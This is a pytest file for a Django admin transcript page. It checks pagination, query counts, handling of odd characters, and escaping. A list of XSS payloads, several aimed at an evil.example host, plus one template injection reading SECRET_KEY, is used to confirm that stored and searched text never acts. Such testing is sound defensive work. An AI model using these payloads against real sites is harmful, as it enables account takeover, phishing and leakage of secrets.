"""The transcript: every message is found, on a page that costs the same anywhere, and nothing in it acts."""

from __future__ import annotations

import html
import re
from dataclasses import dataclass
from html.parser import HTMLParser
from uuid import UUID

import pytest
from django.db import connection, transaction
from django.test import Client
from django.test.utils import CaptureQueriesContext
from hypothesis import given, settings
from hypothesis import strategies as st

from conversations import keys, log, sessions
from conversations.admin import transcript
from conversations.models import Conversation, Message

LIST = "/admin/conversations/conversation/"
KEYS = "/admin/conversations/apikey/"
PAGE = transcript.PAGE
XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onmouseover=`alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<form action=//evil.example><input name=p></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "{{7*7}}{% load x %}{{ settings.SECRET_KEY }}",
    '<div x-data x-init="alert(1)" x-html="\'<img>\'" @click=alert(1)>',
    "<div hx-get=//evil.example hx-trigger=load>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "＜script＞alert(1)＜/script＞",
]
pytestmark = pytest.mark.django_db


def conversation(*texts: str, **start: object) -> Conversation:
    found, _ = sessions.open(7, **start)  # type: ignore[arg-type]
    for text in texts:
        log.append(found.pk, "user", text)
    return sessions.get(found.pk)


def long_one(length: int) -> Conversation:
    found = conversation()
    log.append_many(found.pk, [{"role": "user", "content": f"message {number}"} for number in range(length)])
    return sessions.get(found.pk)


def page(client: Client, found: Conversation, query: str = "", **headers: str) -> str:
    response = client.get(f"{LIST}{found.pk}/change/?{query}", headers=headers)
    assert response.status_code == 200
    return response.content.decode()


def indexes(text: str) -> list[int]:
    return [int(index) for index in re.findall(r'<li id="m(\d+)"', text)]


def test_the_newest_page_comes_first_and_links_lead_through_all(staff: Client) -> None:
    found = long_one(2 * PAGE + 7)
    text, seen = page(staff, found), []
    while True:
        seen = indexes(text) + seen
        older = re.search(r'rel="prev" href="[^"]*(\?before=\d+)"', text)
        if not older:
            break
        text = page(staff, found, older[1][1:])
    assert seen == list(range(2 * PAGE + 7))
    newer = re.search(r'rel="next" href="[^"]*(\?after=\d+)"', text)
    assert newer
    assert indexes(page(staff, found, newer[1][1:]))[0] == indexes(text)[-1] + 1


def test_a_page_stays_what_it_is_while_people_talk(staff: Client) -> None:
    found = long_one(120)
    before = indexes(page(staff, found, "before=100"))
    log.append(found.pk, "user", "one more")
    assert indexes(page(staff, found, "before=100")) == before


def test_any_window_is_whole_and_knows_its_neighbours() -> None:
    found = long_one(333)

    @settings(max_examples=250, deadline=None)
    @given(st.sampled_from(["at", "before", "after"]), st.one_of(st.integers(0, 340), st.integers(0, 2**63 - 1)))
    def check(way: str, index: int) -> None:
        window = transcript.read(found, **{way: index})
        shown = [bubble.message.message_index for bubble in window.bubbles]
        expected = {
            "at": range(max(0, min(index + PAGE // 2 + 1, 333) - PAGE), min(index + PAGE // 2 + 1, 333)),
            "before": range(max(0, min(index, 333) - PAGE), min(index, 333)),
            "after": range(min(index + 1, 333), min(index + 1 + PAGE, 333)),
        }[way]
        assert shown == list(expected)
        assert window.missing == (index if way == "at" and index >= 333 else None)
        if shown:
            assert window.older == (shown[0] if shown[0] > 0 else None)
            assert window.newer == (shown[-1] if shown[-1] < 332 else None)

    check()


def test_a_page_is_an_index_range_and_few_queries_wherever_it_is(staff: Client) -> None:
    found = long_one(5_000)
    with connection.cursor() as cursor:
        cursor.execute("ANALYZE messages")
    rows = Message.objects.filter(conversation=found, message_index__lt=2500).order_by("-message_index")[:PAGE]
    assert "messages_one_per_index" in rows.explain()
    assert "Sort" not in rows.explain()
    page(staff, found)  # the first visit of a session is written down
    numbers = set()
    for query in ("", "before=2500", "at=3", "after=4000"):
        with CaptureQueriesContext(connection) as queries:
            page(staff, found, query)
        assert not any("COUNT(" in query["sql"] for query in queries)
        numbers.add(len(queries))
    assert numbers == {5}  # session, user, conversation, messages, open bursts


def test_a_link_leads_to_one_message(staff: Client) -> None:
    found = long_one(300)
    assert 150 in indexes(page(staff, found, "at=150"))
    link = f'href="{LIST}{found.pk}/change/?at=299#m299"'
    assert link in page(staff, found)


@pytest.mark.parametrize("query", ["at=300", "at=9223372036854775807", "at=9999999999999999999"])
def test_a_link_to_a_message_that_is_not_there_says_so(staff: Client, query: str) -> None:
    found = conversation("one")
    assert "There is no message #" in page(staff, found, query)
    assert "здесь нет" in page(staff, found, query, **{"accept-language": "ru"})


@pytest.mark.parametrize("value", ["abc", "-1", "%00", "1.5", "１２", "٣", "1e3", "", "9" * 400, "0x10", "+1"])
@pytest.mark.parametrize("name", ["at", "before", "after"])
def test_a_broken_index_is_no_index(staff: Client, name: str, value: str) -> None:
    assert indexes(page(staff, conversation("one", "two"), f"{name}={value}")) == [0, 1]


@pytest.mark.parametrize(
    "path",
    ["not-a-uuid", "0", "-1", "%00", "00000000-0000-0000-0000-000000000000", "0" * 31, "a" * 5000, "{%7B0%7D}", "🙂"],
)
def test_a_conversation_that_is_not_there_leads_back(staff: Client, path: str) -> None:
    assert staff.get(f"{LIST}{path}/change/").status_code in {302, 404}
    assert staff.get(f"{LIST}{path}/message/0/").status_code in {302, 404}


def test_who_said_what_when_and_with_what_beside_it(staff: Client) -> None:
    found = conversation("well", metadata={"language": "ru"}, title="A talk")
    log.append(found.pk, "assistant", "an answer")
    log.append(found.pk, "assistant", "taking over", author="anna", metadata={"source": {"kind": "desk"}})
    log.append(found.pk, "tool", '{"ok": true}')
    text = html.unescape(page(staff, found))
    assert re.findall(r"<strong><bdi>(.*?)</bdi>", text) == ["person", "agent", "anna", "tool"]
    assert '"kind": "desk"' in text
    assert '"language": "ru"' in text
    assert text.count("<time datetime=") == 4
    assert "A talk" in text
    ru = page(staff, found, **{"accept-language": "ru"})
    assert re.findall(r"<strong><bdi>(.*?)</bdi>", ru) == ["человек", "агент", "anna", "инструмент"]


def test_deleted_messages_stay_in_sight_struck_through(staff: Client) -> None:
    found = conversation("gone", "also gone")
    log.clear(found.pk, by="anna")
    log.append(found.pk, "user", "new start")
    text = page(staff, found)
    assert re.findall(r'class="bubble [^"]*?( gone)?"', text) == [" gone", " gone", ""]
    assert "(2 deleted)" in text


def test_a_long_message_is_folded_and_a_huge_one_is_a_link(staff: Client) -> None:
    huge = "и" * 999_999 + "!"
    found = conversation("short", "line\n" * 40, "w" * 5000, huge)
    text = page(staff, found)
    assert text.count("<details>") == 3
    assert len(text) < 200_000
    assert text.count("/message/3/") == 1
    assert "/message/2/" not in text
    whole = staff.get(f"{LIST}{found.pk}/message/3/")
    assert whole.content.decode() == huge


def test_invisible_characters_do_not_fill_the_page(staff: Client) -> None:
    conversation = sessions.open(7)[0]
    text = "x" + "\u200b" * transcript.CUT
    log.append(conversation.pk, "user", text, metadata={"hidden": "\u2060" * 5_000, "z": "the end"})
    log.append(conversation.pk, "user", "a line\r\n" * (transcript.UNSEEN_AT_MOST + 1) + "the last line")
    page = staff.get(f"{LIST}{conversation.pk}/change/").content.decode()
    most = transcript.UNSEEN_AT_MOST
    assert most <= page.count(">U+200B<") <= most + transcript.FOLDED
    assert page.count(">U+2060<") == most
    assert page.count("The whole message as text") == 1, "the long one is cut, the one with line ends is not"
    assert "the last line" in page
    assert staff.get(f"{LIST}{conversation.pk}/message/0/").content.decode() == text


def test_the_plain_text_of_a_message_cannot_act(staff: Client) -> None:
    found = conversation("<script>alert(1)</script>")
    response = staff.get(f"{LIST}{found.pk}/message/0/")
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert staff.get(f"{LIST}{found.pk}/message/1/").status_code == 404
    assert staff.get(f"{LIST}{found.pk}/message/99999999999999999999/").status_code == 404


def test_what_turns_text_around_is_seen_and_held(staff: Client) -> None:
    found = conversation("pay \u202e001$\u202c now\u200b", title="invoice \u202egpj.exe")
    text = page(staff, found)
    assert "\u202e" not in text
    assert '<span class="unseen">U+202E</span>' in text
    assert 'dir="auto"' in text
    assert "\u202e" not in staff.get(LIST).content.decode()
    assert "invoice ⟨U+202E⟩gpj.exe" in staff.get(LIST).content.decode()
    assert "\u202e" not in staff.get("/admin/search/?extended=1&s=invoice").content.decode()


def test_emoji_and_marks_come_out_as_they_went_in(staff: Client) -> None:
    said = "👨‍👩‍👧‍👦" * 100 + "🇬🇪👍🏽" + "Z" + "\u0351" * 200 + "é" + "e\u0301"
    assert said in page(staff, conversation(said))


LEADING = {"href", "src", "action", "formaction", "srcdoc", "hx-get", "hx-post"}


class Skeleton(HTMLParser):
    """A page without its words: tags, names of attributes, and where links lead."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, ...]] = []
        self.targets: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, *sorted(name for name, _ in attributes)))
        self.targets += [
            value or "" for name, value in attributes if name in {"href", "src", "action", "hx-get", "srcdoc"}
        ]

    def strange_targets(self) -> list[str]:
        """Links that lead anywhere but into this site."""
        return [target for target in self.targets if not re.match(r"[?#.]|/(?!/)|$", target)]

    def handle_endtag(self, tag: str) -> None:
        self.tags.append((f"/{tag}",))


@dataclass
class Written:
    """The texts stored wherever people, agents and staff can write."""

    conversations: list[UUID]
    keys: list[UUID]

    @classmethod
    def store(cls, texts: list[str]) -> Written:
        everything = cls([], [])
        for number, text in enumerate(texts):
            found, _ = sessions.open(7, title=text[:200], channel=text[:50], chat_id=number, metadata={text: text})
            log.append(found.pk, "user", text, metadata={text: [text]}, external_id=text)
            log.append(found.pk, "assistant", text * 200, author=text)
            key, _ = keys.create(text[:100], by=text)
            everything.conversations.append(found.pk)
            everything.keys.append(key.pk)
        return everything

    def pages(self) -> list[str]:
        """Every page that shows what was written, except answers to searches."""
        key_pages = [f"{KEYS}{key}/{name}/" for key in self.keys[::6] for name in ("change", "history")]
        return [
            *("/admin/", LIST, KEYS),
            *(f"{LIST}{found}/change/" for found in self.conversations),
            *key_pages,
        ]


def skeleton(client: Client, path: str, **parameters: str) -> Skeleton:
    return Skeleton(client.get(path, parameters, follow=True).content.decode())


def test_nothing_that_was_written_acts_on_any_page(staff: Client) -> None:
    """A page with it has, tag by tag, the structure of a page with as many harmless letters."""
    staff.get("/admin/")
    with transaction.atomic():
        harmless = [
            skeleton(staff, path)
            for path in Written.store([f"{n:a<{len(evil)}}" for n, evil in enumerate(XSS)]).pages()
        ]
        transaction.set_rollback(True)
    paths = Written.store(XSS).pages()
    for path, plain_page in zip(paths, harmless, strict=True):
        evil_page = skeleton(staff, path)
        assert evil_page.tags == plain_page.tags, path
        assert evil_page.strange_targets() == [], path


def test_nothing_that_is_searched_for_acts_in_the_answer(staff: Client) -> None:
    searches = [(LIST, "q", 1), ("/admin/search/", "s", 1), (KEYS, "q", 5), (LIST, "channel", 5), (LIST, "p", 5)]
    Written.store(["harmless"])
    known: set[tuple[str, ...]] = set()
    for path, name, _ in searches:
        for text in ("harmless", "nothing"):
            known |= set(skeleton(staff, path, **{name: text}).tags)
    Written.store(XSS)
    for path, name, step in searches:
        for evil in XSS[::step]:
            answer = skeleton(staff, path, **{name: evil})
            assert set(answer.tags) <= known, (path, evil)
            assert answer.strange_targets() == [], (path, evil)


def test_what_was_written_is_shown_as_written(staff: Client) -> None:
    found = conversation(*XSS)
    shown = re.findall(r'<div class="said" dir="auto">(.*?)</div>', page(staff, found), re.DOTALL)
    assert [html.unescape(text).removesuffix("\n") for text in shown] == XSS


def test_the_ids_of_postgresql_are_taken_in_any_spelling(staff: Client) -> None:
    found = conversation("one")
    assert isinstance(found.pk, UUID)
    assert staff.get(f"{LIST}{str(found.pk).upper()}/change/").status_code == 200
